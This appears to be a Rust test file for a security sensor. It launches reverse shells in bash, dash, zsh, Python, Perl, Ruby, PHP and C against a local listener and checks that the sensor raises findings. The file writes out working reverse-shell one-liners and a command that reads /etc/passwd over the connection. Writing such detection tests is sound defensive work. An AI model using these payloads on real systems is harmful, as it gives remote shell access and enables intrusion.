//! A connection becomes a program's streams while it runs: nothing is executed that would have it on its streams from the
//! start.

use std::fs;

use anyhow::Result;
use sensor_tests::{
    carried::{COMMANDS, Least},
    lab::Lab,
    peer::{Listener, Peer, V4},
    suite::Case,
};

/// How much more than nothing has to be said of a program that is none by itself.
const MOVED: Least = Least {
    severity: "MEDIUM",
    direction: "outbound",
};

/// A shell that runs has to come out as what it is.
const MOVED_SHELL: Least = Least {
    severity: "HIGH",
    direction: "outbound",
};

/// How a shell reads the file `job`, and what it finds there: that same shell reads the peer's commands.
const SHELLS: [(&str, &str, &str); 8] = [
    // What comes after the script on standard input is read from the connection.
    (
        "bash_reads_on",
        "bash <job",
        "exec 5<>/dev/tcp/$H/$P\nexec 0<&5 1>&5 2>&5\n",
    ),
    (
        "dash_reads_on",
        "exec 5<>/dev/tcp/$H/$P; dash <job",
        "exec 0<&5 1>&5 2>&5 5<&-\n",
    ),
    (
        "bash_loop",
        "bash job",
        "exec 5<>/dev/tcp/$H/$P 0<&5 1>&5 2>&5\nexec 5<&-\nwhile read -r l; do eval \"$l\"; done",
    ),
    (
        "bash_streams_one_by_one",
        "bash job",
        "exec 5<>/dev/tcp/$H/$P\nexec 0<&5\nexec 1>&5\nexec 2>&5-\nwhile read -r l; do eval \"$l\"; done",
    ),
    (
        "bash_opens_on_0",
        "bash job",
        "exec 0<>/dev/tcp/$H/$P 1>&0 2>&0\nwhile read -r l; do eval \"$l\"; done",
    ),
    (
        "bash_function",
        "bash job",
        "main() { while read -r l; do eval \"$l\"; done; }\nmain <>/dev/tcp/$H/$P >&0 2>&0",
    ),
    (
        "zsh_loop",
        "zsh -f job",
        "zmodload zsh/net/tcp\nztcp $H $P\nexec 0<&$REPLY 1>&0 2>&0\nwhile read -r l; do eval $l; done",
    ),
    (
        "zsh_reads_on",
        "zsh -f <job",
        "zmodload zsh/net/tcp\nztcp $H $P\nexec 0<&$REPLY 1>&0 2>&0\n",
    ),
];

/// Interpreters that move the connection onto their own streams and run each line.
const INTERPRETERS: [(&str, &[&str], &str); 5] = [
    (
        "python_dup2",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socket,os,sys
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
for l in sys.stdin: os.system(l)'"#,
    ),
    (
        "python_captures",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socket,os,subprocess
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; s.close()
while True:
  try: print(subprocess.getoutput(input()),flush=True)
  except EOFError: break'"#,
    ),
    (
        "perl_system",
        &["perl"],
        r#"exec perl -MIO::Socket -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
open STDIN,"<&",$s; open STDOUT,">&",$s; open STDERR,">&",$s; system $_ while <STDIN>'"#,
    ),
    (
        "ruby_reopen",
        &["ruby"],
        r#"exec ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); [$stdin,$stdout,$stderr].each{|i|i.reopen(s)}
$stdin.each_line{|l| system l}'"#,
    ),
    // PHP closes its streams; the next that is opened is 0.
    (
        "php_closed_streams",
        &["php"],
        r#"echo '<?php fclose(STDIN); fclose(STDOUT); fclose(STDERR); $s=fsockopen(getenv("H"),(int)getenv("P"));
while($l=fgets($s)) fwrite($s,shell_exec($l));' >s.php; exec php -n s.php"#,
    ),
];

/// The compiled `redirect.c`'s ways.
const NATIVE: [&str; 5] = ["dup2", "dup3", "fcntl", "close", "connect-0"];

fn execute(peer: &mut Peer) -> Result<()> {
    for (command, answer) in COMMANDS {
        peer.send(format!("{command}\n"))?;
        peer.read_until(answer)?;
    }
    Ok(())
}

fn moved(lab: &Lab<'_>, mut peer: Peer, least: Least) -> Result<()> {
    execute(&mut peer)?;
    let finding = lab.finding_of(peer.ends(), least)?;
    drop(peer);
    lab.over(&finding)
}

/// Has `shell` read `job`, and gives the connection that it makes.
fn shell(lab: &Lab<'_>, shell: &str, job: &str) -> Result<Peer> {
    fs::write(lab.path("job"), job)?;
    lab.calls(&Listener::tcp(V4)?, "127.0.0.1", &format!("{shell}; true"))
}

/// The peer types nothing but what the shell does by itself, so that nothing is executed at all.
fn builtins(lab: &Lab<'_>, mut peer: Peer) -> Result<()> {
    let typed = [
        ("echo result-$((6*7))", "result-42"),
        ("read -r first </etc/passwd; echo \"$first\"", "root:"),
        ("cd /; echo in-\"$PWD\".", "in-/."),
    ];
    for (command, answer) in typed {
        peer.send(format!("{command}\n"))?;
        peer.read_until(answer)?;
    }
    let finding = lab.finding_of(peer.ends(), MOVED_SHELL)?;
    drop(peer);
    lab.over(&finding)
}

fn native(lab: &Lab<'_>, way: &str) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    let program = lab.programs.c("redirect.c", &[])?;
    lab.spawn(
        lab.command(program)?
            .args([way, "127.0.0.1", &listener.port()?.to_string()]),
    )?;
    moved(lab, listener.accept()?, MOVED)
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, command, job) in SHELLS {
        cases.push(Case::new(
            format!("redirected::{name}"),
            &["bash", "dash", "zsh"],
            move |lab| moved(lab, shell(lab, command, job)?, MOVED_SHELL),
        ));
        cases.push(Case::new(
            format!("redirected_builtins::{name}"),
            &["bash", "dash", "zsh"],
            move |lab| builtins(lab, shell(lab, command, job)?),
        ));
    }
    for (name, tools, script) in INTERPRETERS {
        cases.push(Case::new(format!("redirected::{name}"), tools, move |lab| {
            moved(lab, lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, MOVED)
        }));
    }
    for way in NATIVE {
        cases.push(Case::new(format!("redirected::c_{way}"), &["gcc"], move |lab| {
            native(lab, way)
        }));
    }
    cases
}
